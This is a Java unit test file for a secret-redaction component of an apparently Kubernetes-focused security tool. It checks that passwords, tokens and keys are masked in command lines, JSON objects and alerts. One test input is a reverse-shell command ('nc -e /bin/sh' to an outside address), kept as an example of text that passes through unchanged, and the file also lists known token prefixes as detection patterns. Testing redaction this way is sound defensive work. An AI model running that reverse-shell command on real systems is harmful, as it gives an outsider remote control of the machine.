package io.cattleguard.respond.kubernetes.cluster;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class RedactionTest {
  private static final Duration SHORT = Duration.ofSeconds(5);

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "--password=hunter2 --port=80 | --password=[redacted] --port=80",
        "--db-password hunter2 --port 80 | --db-password [redacted] --port 80",
        "export DB_PASSWORD=hunter2; run | export DB_PASSWORD=[redacted] run",
        "PGPASSWORD=\"hunter2 and more\" psql | PGPASSWORD=[redacted] psql",
        "{\"api_key\": \"hunter2\"} | {\"api_key\": [redacted]}",
        "curl -u ann:hunter2 https://example.com | curl -u ann:[redacted] https://example.com",
        "curl -H 'Authorization: Bearer hunter2' x | curl -H 'Authorization: [redacted] [redacted]'"
            + " x",
        "postgres://ann:hunter2@db:5432/shop | postgres://ann:[redacted]@db:5432/shop",
        "aws AKIAIOSFODNN7EXAMPLE s3 | aws [redacted] s3",
        "x wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY4567 | x [redacted]",
        "DB_PASS=hunter2 run | DB_PASS=[redacted] run",
        "run --pass hunter2 --port 80 | run --pass [redacted] --port 80",
        "pass: hunter2 | pass: [redacted]",
        "run --password -hunter2 x | run --password [redacted] x",
        "run --password --token hunter2 x | run --password --token [redacted] x",
        "mysql -h db -phunter2 shop | mysql -h db -p[redacted] shop",
        "mysqldump --all -phunter2 | mysqldump --all -p[redacted]",
        "cp -pr a b | cp -pr a b",
        "AccountName=shop;AccountKey=hunter2 | AccountName=shop;AccountKey=[redacted]",
        "https://shop.example.com/a?sig=hunter2 | https://shop.example.com/a?sig=[redacted]",
        "git clone https://hunter2@example.com/a | git clone https://[redacted]@example.com/a",
        "aws configure set aws_secret_access_key hunter2 | aws configure set aws_secret_access_key"
            + " [redacted]",
        "curl -H 'Authorization: Token hunter2' | curl -H 'Authorization: [redacted] [redacted]'",
        "{\\\"password\\\":\\\"hunter2\\\"} | {\\\"password\\\":[redacted]}",
        "bypass the passed config of the design | bypass the passed config of the design",
        "sh -c 'nc -e /bin/sh 203.0.113.7 4444' | sh -c 'nc -e /bin/sh 203.0.113.7 4444'",
        "java -jar /opt/shop/lib/application-server-1.2.3.jar | java -jar"
            + " /opt/shop/lib/application-server-1.2.3.jar"
      })
  void whatLooksLikeASecretIsReplacedAndTheRestStays(String text, String redacted) {
    assertEquals(redacted, Redaction.text(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'containers':[{'command':['run','--token','hunter2']}]}",
        "{'containers':[{'args':['--client-secret=hunter2']}]}",
        "{'containers':[{'args':['-u','ann:hunter2']}]}",
        "{'containers':[{'env':[{'name':'X','value':'hunter2'}]}]}",
        "{'initContainers':[{'lifecycle':{'postStart':{'exec':{'command':['x','password=hunter2']}}}}]}",
        "{'livenessProbe':{'httpGet':{'httpHeaders':[{'name':'X-Key','value':'hunter2'}]}}}",
        "{'spec':{'template':{'metadata':{'annotations':{'a/last-applied':'hunter2'}}}}}",
        "{'metadata':{'annotations':{'copy':'containers: [env: hunter2]'}}}",
        "{'metadata':{'annotations':{'note':'token: hunter2'}}}",
        "{'metadata':{'annotations':{'example.com/password':'hunter2'}}}",
        "{'containers':[{'args':['--password','-hunter2']}]}",
        "{'containers':[{'args':['--password','--token','hunter2']}]}",
        "{'containers':[{'command':['/usr/bin/mysql','-phunter2']}]}",
        "{'message':'exec failed: --password=hunter2'}",
        "{'managedFields':['hunter2']}"
      })
  void aSecretIsFoundWhereverAnObjectHasIt(String json) throws IOException {
    JsonNode tree = JsonMapper.builder().build().readTree(json.replace('\'', '"'));
    assertTrue(tree.toString().contains("hunter2"));

    Redaction.redact(tree);

    assertFalse(tree.toString().contains("hunter2"), tree::toString);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "glpat-",
        "ghp_",
        "github_pat_",
        "sk_live_",
        "rk_test_",
        "npm_",
        "SG.madeupword.",
        "xoxb-"
      })
  void aTokenOfAKnownKindIsReplaced(String kind) {
    String token = kind + "made_up".repeat(3);

    assertEquals("use [redacted] now", Redaction.text("use " + token + " now"));
  }

  @Test
  void anAlertLosesWhatAProgramWasCalledWithAndKeepsWhichObjectItIsAbout() throws IOException {
    ObjectNode scored =
        (ObjectNode)
            JsonMapper.builder()
                .build()
                .readTree(
                    """
                    {"id":"0123456789abcdef0123456789abcdef","score":80,"alert":{
                      "id":"abcdef0123456789abcdef0123456789","title":"token=hunter2",
                      "target":{"containerId":"0123456789abcdef0123456789abcdef01234567"},
                      "process":{"commandLine":"mysql -phunter2","name":"mysql"},
                      "file":{"path":"/tmp/a?sig=hunter2"},"notes":["pass: hunter2"],
                      "raw":"{\\"cmdline\\":\\"run --pass hunter2\\"}"}}
                    """);

    Redaction.redactAlert(scored);

    assertFalse(scored.toString().contains("hunter2"), scored::toString);
    assertEquals("mysql", scored.path("alert").path("process").path("name").asText());
    assertTrue(scored.toString().contains("0123456789abcdef0123456789abcdef01234567"));
    assertTrue(scored.toString().contains("abcdef0123456789abcdef0123456789"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-eyJ",
        "eyJ-eyJ.",
        "token",
        "token=\"",
        "-----BEGIN PRIVATE KEY-----",
        "://a:",
        "://",
        " -u ",
        " --token ",
        "mysql ",
        "mysql -x ",
        "sk_live_",
        "SG.",
        "AKIA",
        "a1-",
        "bearer ",
        "auth:a ",
        "authorization: a ",
        "\\\"",
        "pass",
        "sig",
        "x"
      })
  void aHostileTextCostsLittle(String part) {
    String hostile = part.repeat(1 + (1 << 20) / part.length());

    String kept = assertTimeoutPreemptively(SHORT, () -> Redaction.text(hostile));

    assertTrue(kept.length() < 200_000, () -> "kept " + kept.length());
  }

  @Test
  void aSecretAtWhichATextIsCutIsNotKeptInHalf() {
    String text = Redaction.text("word ".repeat(3_276) + "ghp" + "_made_up_made_up_made_up");

    assertTrue(text.endsWith("word [cut]"), text);
  }
}
